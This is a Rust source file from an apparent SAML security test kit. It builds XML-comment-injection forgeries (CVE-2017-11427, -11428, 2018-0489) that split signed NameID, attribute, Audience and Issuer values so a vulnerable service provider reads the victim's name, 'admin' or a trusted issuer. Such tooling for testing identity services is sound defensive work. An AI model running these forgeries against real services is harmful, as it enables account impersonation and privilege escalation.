//! Attacks with comments. The signature does not cover comments, so anybody can insert them into a signed message. A
//! service that reads a text up to the first comment, or after the last one, reads a value that nobody signed.

use vouchsafe_xml::Canonicalization;

use super::scene::{Made, Scene};
use super::surgery::{copy, replace};
use super::{Attack, Base, Kind, Needs};
use crate::{Attribute, ResponseBuilder, Signed, TestkitError};

const DUO: &str = "CVE-2017-11427 (python-saml), CVE-2017-11428 (ruby-saml), CVE-2018-0489 (Shibboleth)";

/// The end of the attacker's own name at the identity provider.
pub(super) const SUFFIX: &str = ".evil.example";

const fn row(name: &'static str, description: &'static str, make: fn(&Scene<'_>) -> Made) -> Attack {
    Attack::new(name, Kind::Comment, description, make)
}

pub(super) const ATTACKS: &[Attack] = &[
    row(
        "comment/name-id",
        "NameID \"victim<!-- -->.evil\": the whole text or nothing, both signed",
        |scene| {
            let name = longer(scene);
            split(scene, scene.message_about(&name), scene.victim(), "<!-- -->")
        },
    )
    .known_as(DUO),
    row("comment/name-id-assertion", "the same, the Assertion signed", |scene| {
        let name = longer(scene);
        split(scene, scene.message_about(&name), scene.victim(), "<!---->")
    })
    .from(Base::Assertion)
    .known_as(DUO),
    row("comment/name-id-response", "the same, the Response signed", |scene| {
        let name = longer(scene);
        split(scene, scene.message_about(&name), scene.victim(), "<!-- -->")
    })
    .from(Base::Response)
    .known_as(DUO),
    row(
        "comment/with-comments",
        "the same, canonicalized \"with comments\", which a reference by ID never has",
        |scene| {
            let name = longer(scene);
            let message =
                scene.message_about(&name).canonicalization(Canonicalization::EXCLUSIVE_WITH_COMMENTS);
            split(scene, message, scene.victim(), "<!-- -->")
        },
    ),
    row("comment/inclusive", "the same, with Canonical XML 1.0", |scene| {
        let name = longer(scene);
        let message = scene.message_about(&name).canonicalization(Canonicalization::INCLUSIVE);
        split(scene, message, scene.victim(), "<!-- -->")
    }),
    row(
        "comment/name-id-end",
        "NameID \"evil.<!-- -->victim\": who reads the last text reads the victim",
        |scene| {
            let name = format!("evil.{}", scene.victim());
            let issued = scene.message_about(&name).issue()?.into_xml();
            let bent = issued.replace(&format!(">{name}<"), &format!(">evil.<!-- -->{}<", scene.victim()));
            Ok(vec![scene.bent_about(name, bent)])
        },
    ),
    row("comment/name-id-many", "NameID with a comment between any two characters", |scene| {
        let name = longer(scene);
        let issued = scene.message_about(&name).issue()?.into_xml();
        let spread: String = name.chars().map(|character| format!("{character}<!---->")).collect();
        Ok(vec![scene.bent_about(&name, issued.replace(&format!(">{name}<"), &format!(">{spread}<")))])
    }),
    row(
        "comment/encrypted",
        "NameID \"victim<!-- -->.evil\" in a signed Assertion that the attacker encrypts",
        |scene| {
            let name = longer(scene);
            let issued =
                scene.message_of(&scene.target().identity_provider, &name).sign(Signed::Assertion).issue()?;
            let bent = broken(issued.xml(), scene.victim(), "<!-- -->");
            let assertion = copy(&bent, &["Response", "Assertion"])?;
            let sealed = replace(&bent, &["Response", "Assertion"], &scene.encrypted(&assertion)?)?;
            Ok(vec![scene.bent_about(name, sealed)])
        },
    )
    .from(Base::EncryptedAssertion)
    .needs(&[Needs::Certificate]),
    row("comment/attribute", "attribute value \"admin<!-- -->.evil\": the whole text or nothing", |scene| {
        let value = format!("admin{SUFFIX}");
        let issued = scene.message().attribute(Attribute::new("kit.role", [value])).issue()?;
        Ok(vec![scene.bent(broken(issued.xml(), "admin", "<!-- -->")).forging("admin")])
    }),
    row("comment/audience", "Audience \"ours<!-- -->.evil\", which is somebody else's", |scene| {
        let ours = scene.target().entity_id.clone();
        let issued = scene.message().audience(format!("{ours}{SUFFIX}")).issue()?;
        Ok(vec![scene.hostile(broken(issued.xml(), &ours, "<!-- -->"))])
    }),
    row("comment/issuer", "Issuer \"trusted<!-- -->.evil\", even by the trusted key", |scene| {
        let trusted = scene.target().identity_provider.entity_id().to_owned();
        let issued = scene.message().issuer(format!("{trusted}{SUFFIX}")).issue()?;
        Ok(vec![scene.hostile(broken(issued.xml(), &trusted, "<!-- -->"))])
    }),
    row("comment/issuer-other-key", "Issuer \"trusted<!-- -->.evil\", by the attacker's key", |scene| {
        let trusted = scene.target().identity_provider.entity_id().to_owned();
        let message = scene.message_about(scene.victim()).key(crate::keys::attacker());
        let issued = message.issuer(format!("{trusted}{SUFFIX}")).issue()?;
        Ok(vec![scene.hostile(broken(issued.xml(), &trusted, "<!-- -->"))])
    }),
    row(
        "comment/digest-value",
        "a comment in DigestValue and SignatureValue of a genuine message",
        |scene| {
            let issued = scene.message().issue()?.into_xml();
            let bent = issued
                .replace("<ds:DigestValue>", "<ds:DigestValue><!-- -->")
                .replace("<ds:SignatureValue>", "<ds:SignatureValue><!-- -->");
            Ok(vec![scene.bent(bent)])
        },
    ),
    row("comment/subject", "forged Subject in a comment before the genuine one", |scene| {
        let issued = scene.message().issue()?.into_xml();
        let subject = scene.forged(&copy(&issued, &["Response", "Assertion", "Subject"])?);
        let path = ["Response", "Assertion", "Subject"];
        Ok(vec![scene.bent(super::surgery::before(&issued, &path, &format!("<!--{subject}-->"))?)])
    }),
];

/// Returns the name of the attacker's account: the victim's name with a suffix.
pub(super) fn longer(scene: &Scene<'_>) -> String {
    format!("{}{SUFFIX}", scene.victim())
}

/// Returns a message about [`longer`], with a text inserted between the victim's name and the suffix.
pub(super) fn split(scene: &Scene<'_>, message: ResponseBuilder, name: &str, with: &str) -> Made {
    let issued: Result<_, TestkitError> = message.issue();
    Ok(vec![scene.bent_about(longer(scene), broken(issued?.xml(), name, with))])
}

/// Inserts a text between a name and [`SUFFIX`], everywhere in element content.
pub(super) fn broken(xml: &str, name: &str, with: &str) -> String {
    xml.replace(&format!(">{name}{SUFFIX}<"), &format!(">{name}{with}{SUFFIX}<"))
}
